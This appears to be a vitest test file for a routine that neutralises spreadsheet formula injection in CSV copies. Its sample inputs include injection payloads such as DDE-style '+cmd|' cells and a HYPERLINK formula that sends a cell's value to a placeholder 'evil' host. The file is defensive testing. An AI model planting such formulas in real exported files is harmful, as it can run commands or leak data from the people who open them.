/** Copies for spreadsheets: no cell is run, and numbers stay numbers. */
import { parse } from 'csv-parse/sync';
import { expect, it } from 'vitest';
import { defuseCell, defused, FOR_PEOPLE_TITLE } from '../../../src/csv/defuse-formulas.js';
import { inChunks } from '../../helpers/csv.js';

it.each([
  '=1+1',
  '=HYPERLINK("http://x","y")',
  '+cmd|x',
  '-2+3+cmd',
  '@SUM(A1)',
  ' =1',
  '＝1',
  '\0=1',
  '-',
  '+49 89 1234',
  '"=1',
])('defuses %j', (cell) => expect(defuseCell(cell)).toBe(`'${cell}`));

it.each(['', 'a=b', '42', '-42', '+4.5', '-1,5', "'=1", '#N/A', 'a;b', 'a; b|c\td', 'x;1=1', 'a-b; c-d', 'a,=1'])(
  'leaves %j unchanged',
  (cell) => expect(defuseCell(cell)).toBe(cell),
);

it.each([
  ['\t=1', "'\t'=1"],
  ['\r=1', "'\r'=1"],
  ['\n@x', "'\n'@x"],
  ['x\n=1', "x\n'=1"],
  ['x;=HYPERLINK("http://evil/?"&A1,"click")', 'x;\'=HYPERLINK("http://evil/?"&A1,"click")'],
  ['x\t=1;+cmd|@SUM(1)|\r\n-1-2', "x\t'=1;'+cmd|'@SUM(1)|\r\n'-1-2"],
  ['x; \0"=1', 'x;\' \0"=1'],
  ['x;"" " =1', 'x;\'"" " =1'],
  ['x;＝1;＋1;－1;＠x', "x;'＝1;'＋1;'－1;'＠x"],
  // The next cell of the line follows: -5,cmd|...
  ['x;-5', "x;'-5"],
  ["x;'=1", "x;'=1"],
  ['=a;=b', "'=a;'=b"],
])('defuses %j if cells end at other separators', (cell, safe) => expect(defuseCell(cell)).toBe(safe));

it.each([';', '\t', '|'])('no cell begins with a formula if lines are split at %j', async (separator) => {
  const starts = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
  const fronts = ['', ' ', '\u00a0', '\0', '"', '""', ' " '];
  const breaks = [';', '\t', '|', '\r', '\n', '\r\n'];
  const cells = breaks.flatMap((end) =>
    fronts.flatMap((front) => starts.map((sign) => `x${end}${front}${sign}cmd!A0`)),
  );
  const text = cells.map((cell) => `1,"${cell.replaceAll('"', '""')}"\n`).join('');
  const copy: Buffer[] = [];
  for await (const chunk of defused(inChunks(Buffer.from(text), [7]))) copy.push(chunk);
  // Such a spreadsheet recognizes a quote only at the start of a cell.
  const split = Buffer.concat(copy)
    .toString()
    .split(/[\r\n]/)
    .flatMap((line) => line.split(separator));
  expect(split.length).toBeGreaterThan(cells.length);
  expect(split.filter((cell) => /^[\s\0"]*[=+\-@＝＋－＠]/.test(cell))).toEqual([]);
});

it('is fast for a cell of separators, blanks and quotes only', () => {
  const begun = performance.now();
  for (const unit of [';', '; ', ' ', '"', ';"']) defuseCell(`x;${unit.repeat(400_000)}`);
  expect(performance.now() - begun).toBeLessThan(2_000);
});

it('copies a file completely, including headers, and marks it', async () => {
  const rows = [
    ['sf__Id', 'sf__Error', '=Title'],
    ['', 'CODE:"=x":--', '=1,"2"\nnext'],
    ['001', '', '-5'],
  ];
  const text = rows.map((row) => row.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(',')).join('\n');
  const chunks: Buffer[] = [];
  for await (const chunk of defused(inChunks(Buffer.from(`${text}\n`), [3, 1, 7]))) chunks.push(chunk);
  expect(parse(Buffer.concat(chunks))).toEqual([
    ['sf__Id', 'sf__Error', "'=Title", FOR_PEOPLE_TITLE],
    ['', 'CODE:"=x":--', '\'=1,"2"\nnext', ''],
    ['001', '', '-5', ''],
  ]);
});
